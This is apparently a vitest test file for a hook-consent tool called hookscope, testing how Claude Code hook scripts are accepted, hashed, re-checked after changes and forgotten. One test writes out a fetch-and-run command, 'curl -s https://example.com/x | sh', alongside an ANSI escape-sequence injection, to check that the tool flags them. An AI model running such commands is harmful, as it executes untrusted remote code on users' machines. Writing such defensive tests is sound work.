import {
  chmodSync,
  chownSync,
  cpSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import type { Terminal } from '../../src/cli/terminal.js';
import { trustCommand } from '../../src/cli/trust.js';
import { acceptancesFile, readAcceptances } from '../../src/trust/acceptances.js';
import { defaultTrustFile } from '../../src/trust/store.js';
import { BIN, cli } from '../cli/cli.js';
import { asNobody } from '../nobody.js';
import { closeAll, createProject, hooksOn, type Project } from './project.js';

const OWN = { ...process.env };
let project: Project;
beforeEach(() => {
  project = createProject();
  const [config, state] = ['config', 'state'].map((name) => join(project.path, name));
  Object.assign(process.env, { HOME: project.home, XDG_CONFIG_HOME: config, XDG_STATE_HOME: state });
  project.write('project/.claude/settings.json', hooksOn('PreToolUse', { type: 'command', command: './guard.sh' }));
  project.write('project/guard.sh', '#!/bin/sh\n# \u001b[2J\necho no >&2; exit 2\n', 0o755);
});
afterEach(async () => {
  for (const key of ['HOME', 'XDG_CONFIG_HOME', 'XDG_STATE_HOME']) delete process.env[key];
  Object.assign(process.env, OWN);
  await closeAll();
});

/** The command, with somebody at the terminal who answers so; `undefined`: nobody. */
async function trust(flags: object, ...answers: string[]) {
  const printed: string[] = [];
  const asked: string[] = [];
  const ask = async (question: string): Promise<string> => {
    asked.push(question);
    return answers[asked.length - 1] ?? '';
  };
  const terminal: Terminal = {
    ...{ color: false, live: false, columns: 80, gone: false, signal: new AbortController().signal },
    print: async (text) => void printed.push(text),
    write: () => {},
    written: async () => {},
    writeError: () => undefined,
    tell: (text) => void printed.push(text),
    ask: answers.length > 0 ? ask : undefined,
  };
  const code = await trustCommand([project.dir], flags, terminal);
  return { code, asked, text: printed.join('\n') };
}

const fire = () =>
  cli(
    ['fire', 'PreToolUse', '--claude-code', project.dir, '--json', '--input', project.write('call.json', project.call)],
    { cwd: project.path },
  );
const verdict = async (): Promise<string> =>
  (JSON.parse((await fire()).stdout) as { decision: { verdict: string } }).decision.verdict;

test('shows what would be accepted, asks, and keeps the consent; a changed byte is shown as a change', async () => {
  expect(await verdict()).toBe('none');
  const first = await trust({}, 'n');
  expect(first).toMatchObject({
    code: 1,
    asked: [
      `Accept ${join(project.dir, '.claude/settings.json')}? [y/N, or "data NAME" if the file NAME changes on its own] `,
    ],
  });
  expect(first.text).toContain('"command": "./guard.sh"');
  expect(first.text).toContain('+echo no >&2; exit 2');
  expect(first.text).not.toContain('\u001b');
  expect((await trust({}, 'y')).code).toBe(0);
  expect(await verdict()).toBe('deny');
  expect(await trust({}, 'y')).toMatchObject({ code: 0, asked: [], text: 'Nothing waits for consent.' });

  const script = join(project.dir, 'guard.sh');
  writeFileSync(script, readFileSync(script, 'utf8').replace('no', 'NO'));
  expect(await verdict()).toBe('ask');
  const { stderr } = await fire();
  expect(stderr).toMatch(
    /untrusted: guard\.sh, which .* names, has changed since it was accepted; see hookscope trust/,
  );
  expect(stderr.match(/untrusted: /g), 'told once').toHaveLength(1);
  const again = await trust({ yes: true }, '');
  expect([again.code, again.asked]).toEqual([0, []]);
  expect(again.text).toContain('what has changed:');
  expect(again.text).toContain('-echo no >&2; exit 2\n    +echo NO >&2; exit 2');
  expect(await verdict()).toBe('deny');
  expect(statSync(join(project.path, 'config/hookscope/trust.json')).mode & 0o777).toBe(0o600);
  expect((await trust({ forget: project.dir })).code).toBe(0);
  // Each is kept where doctor finds it, with a hash of what was accepted before and now.
  const hash = expect.stringMatching(/^[0-9a-f]{64}$/);
  const [forgotten, then, accepted, ...more] = readAcceptances(0);
  expect([forgotten, then, accepted, more]).toEqual([
    expect.objectContaining({ how: 'hookscope trust --forget', from: null, to: null }),
    expect.objectContaining({ how: 'hookscope trust', from: accepted?.to, to: hash }),
    expect.objectContaining({ how: 'hookscope trust', from: null, to: hash }),
    [],
  ]);
  expect(then?.to).not.toBe(then?.from);
});

test('the list says which files were unbound, and what is said to be accepted is', async () => {
  await trust({}, 'y');
  expect((await trust({ data: ['guard.sh'], yes: true }, '')).code).toBe(0);
  const [now, before] = readAcceptances(0);
  expect(now).toEqual({
    ...before,
    at: expect.any(String),
    from: before?.to,
    to: expect.any(String),
    data: ['guard.sh'],
  });
  expect(now?.to).not.toBe(now?.from);
  writeFileSync(join(project.dir, 'guard.sh'), '#!/bin/sh\n');
  expect((await trust({}, '')).text).toBe('Nothing waits for consent.');
  const { stdout } = await cli(['doctor'], { cwd: project.dir });
  expect(stdout).toMatch(/settings\.json was accepted at .* bound by name alone, whatever they hold: guard\.sh/);
  // A half-written line, as a full disk leaves it, takes no other with it.
  const file = acceptancesFile();
  writeFileSync(file, readFileSync(file, 'utf8').slice(0, -20));
  project.write('project/.claude/settings.json', hooksOn('PreToolUse', { type: 'command', command: 'true' }));
  await trust({}, 'y');
  expect(readAcceptances(0)).toHaveLength(2);
  // What cannot be stored was not accepted.
  project.write('project/.claude/settings.json', hooksOn('PreToolUse', { type: 'command', command: 'false' }));
  mkdirSync(`${defaultTrustFile()}.${process.pid}.tmp`);
  await expect(trust({}, 'y')).rejects.toThrow(/consent cannot be written/);
  expect(readAcceptances(0)).toHaveLength(2);
});

test('says which words of a command no consent can bind', async () => {
  const command = 'sh guard.sh; curl -s https://example.com/x | sh; "$UNKNOWN/x\u001b[2J"; echo "$FINE"';
  project.write('project/.claude/settings.json', hooksOn('PreToolUse', { type: 'command', command }));
  const { text } = await trust({}, 'n');
  const [, words = ''] = /no consent binds:\n((?: {2}.*\n)+?) {2}what/.exec(text) ?? [];
  expect(words.trim().split('\n  ')).toEqual(['"$UNKNOWN/x\\u{1b}[2J"', 'curl -s https://example.com/x']);
});

test('lists and forgets', async () => {
  expect(await trust({ list: true })).toMatchObject({ code: 1, text: expect.stringContaining('never  ') });
  await trust({}, 'yes');
  expect(await trust({ list: true })).toMatchObject({
    code: 0,
    text: expect.stringMatching(/^accepted .*settings\.json/),
  });
  expect((await trust({ revoke: true })).text).toContain('forgotten');
  expect(await trust({ revoke: true })).toMatchObject({ code: 0, text: 'Nothing of it was accepted.' });
  expect(await verdict()).toBe('none');
});

test('of a file that is gone it asks whether to forget it; --forget does so by name', async () => {
  const settings = join(project.dir, '.claude/settings.json');
  const content = readFileSync(settings, 'utf8');
  await trust({}, 'y');
  rmSync(settings);
  expect(await verdict()).toBe('ask');
  const kept = await trust({}, 'n');
  expect([kept.code, kept.asked]).toEqual([1, [`Forget ${settings}? [y/N] `]]);
  expect(kept.text).toMatch(
    /^project .*settings\.json\n.*was accepted, and it or its hooks are gone; see hookscope trust/,
  );
  expect((await trust({ list: true })).text).toMatch(/^gone {2}.*settings\.json/);
  expect((await trust({ forget: settings })).text).toBe(`forgotten  ${settings}`);
  expect(await trust({ list: true })).toMatchObject({ code: 0 });
  writeFileSync(settings, content);
  expect(await trust({ list: true })).toMatchObject({ code: 1, text: expect.stringMatching(/^never {2}/) });
  await trust({}, 'y');
  rmSync(settings);
  expect((await trust({}, 'y')).code).toBe(0);
  expect((await trust({ list: true })).text).toBe('Nothing is accepted, and nothing waits to be.');
});

test('of a changed file only what has changed is shown, and a file that changes by itself can be bound by name', async () => {
  const counts = project.write('project/counts.json', '1');
  const lines = Array.from({ length: 200 }, (_, i) => `# line ${i}`).join('\n');
  project.write('project/more.sh', `${lines}\nexit 2\n`);
  const command = 'sh ./more.sh ./counts.json';
  project.write(
    'project/.claude/settings.json',
    hooksOn('PreToolUse', { type: 'command', command: './guard.sh' }, { type: 'command', command }),
  );
  await trust({}, 'y');
  writeFileSync(counts, '2');
  const asked = await trust({}, 'data nothing', 'data counts.json');
  expect([asked.code, asked.asked.length]).toEqual([0, 2]);
  expect(asked.text).toContain('it names: counts.json');
  expect(asked.text).not.toContain('line 7');
  expect(asked.text).not.toContain('guard.sh\n');
  writeFileSync(counts, '3');
  expect(await trust({}, 'n')).toMatchObject({ code: 0, asked: [] });
  expect(await trust({ data: ['more.sh'] }, 'y')).toMatchObject({
    code: 0,
    text: expect.stringMatching(/by name alone[\s\S]*more\.sh/),
  });
  writeFileSync(join(project.dir, 'more.sh'), 'exit 0');
  expect(await trust({}, 'n')).toMatchObject({ code: 0, asked: [] });
  writeFileSync(join(project.dir, 'guard.sh'), 'exit 0');
  await expect(trust({ data: ['guart.sh'] }, 'y')).rejects.toThrow(/"guart\.sh" is named by no command.*guard\.sh/);
  const again = await trust({}, 'data');
  expect([again.code, again.text]).toEqual([0, expect.stringContaining('bound by name alone: guard.sh')]);
});

test('of a project that was moved it says that what was accepted is elsewhere', async () => {
  await trust({}, 'y');
  cpSync(project.dir, join(project.path, 'moved'), { recursive: true });
  const { text } = await trust({ list: true });
  expect(text).toMatch(/^accepted /);
  const { stdout, stderr } = await cli(['list', '--claude-code', join(project.path, 'moved')], { cwd: project.path });
  expect(stdout).toContain('never runs: trust');
  expect(stderr).toContain('acceptances for projects at other places: 1;');
  const listed = await cli(['trust', join(project.path, 'moved'), '--list'], { cwd: project.path });
  expect(listed.stdout).toMatch(/^elsewhere .*\nnever {2}/);
});

test('without a terminal nothing is accepted, whatever a program asks for', async () => {
  const run = (...args: string[]) => cli(['trust', project.dir, ...args], { cwd: project.path, stdin: 'y\n' });
  expect(await run()).toMatchObject({
    code: 1,
    stderr: expect.stringContaining('nothing was accepted: run it at a terminal'),
  });
  expect(await run('--yes')).toMatchObject({
    code: 1,
    stdout: '',
    stderr: expect.stringContaining('consent is given at a terminal'),
  });
  expect(await verdict()).toBe('none');
});

test('a project that would keep its own consent is refused', async () => {
  process.env['XDG_CONFIG_HOME'] = join(project.dir, 'config');
  expect(await fire()).toMatchObject({ code: 1, stderr: expect.stringContaining('it lies in the project') });
});

test('--trust takes two words', async () => {
  const { code, stderr } = await cli(['list', '--claude-code', project.dir, '--trust', 'some'], { cwd: project.path });
  expect([code, stderr]).toEqual([1, expect.stringContaining('--trust: expected all or stored, got "some"')]);
});

test('a question whose beginning has left the screen says how much stands above it', async () => {
  const script = join(project.dir, 'guard.sh');
  writeFileSync(script, `${readFileSync(script, 'utf8')}${'echo more\n'.repeat(100)}`);
  const { text, asked } = await trust({}, 'n');
  expect(text.split('\n').length).toBeGreaterThan(100);
  expect(Number(/\((\d+) lines above\)/.exec(asked[0] as string)?.[1])).toBeGreaterThan(100);
});

test('a script that its own user may no longer execute is untrusted, whoever else may; check reports it', async () => {
  expect((await trust({}, 'y')).code).toBe(0);
  chmodSync(join(project.dir, 'guard.sh'), 0o655);
  if (process.getuid?.() === 0)
    for (const name of ['.', ...(readdirSync(project.path, { recursive: true }) as string[])])
      chownSync(join(project.path, name), 65_534, 65_534);
  const stdin = JSON.stringify(project.call);
  const run = (...args: string[]) => asNobody(process.execPath, [BIN, ...args], project.path, stdin);
  const { stdout, stderr } = await run('fire', 'PreToolUse', '--claude-code', project.dir, '--json', '--input', '-');
  expect(stderr).toMatch(/guard\.sh, .*could be executed when it was accepted, and cannot now: chmod \+x mends it/);
  expect(JSON.parse(stdout)).toMatchObject({ decision: { verdict: 'ask' } });
  expect((await run('check', project.dir)).stdout).toContain('guard.sh has no permission to be run.');
  expect((await run('check', project.dir)).stdout).toContain('fix: chmod +x');
});

test('check does not tell the user of a script that belongs to another to change its mode', async () => {
  const open = mkdtempSync(join(tmpdir(), 'hookscope-other-'));
  try {
    const hooks = [{ type: 'command', command: '/etc/passwd' }];
    writeFileSync(join(open, 'settings.json'), JSON.stringify({ hooks: { Stop: [{ hooks }] } }));
    chmodSync(open, 0o755);
    const { stdout } = await asNobody(process.execPath, [BIN, 'check', join(open, 'settings.json')], open, '');
    expect(stdout).toContain('passwd has no permission to be run.');
    expect(stdout).toContain(
      'fix: This user may not execute it: its owner must allow it, or its file system is mounted',
    );
  } finally {
    rmSync(open, { recursive: true, force: true });
  }
});
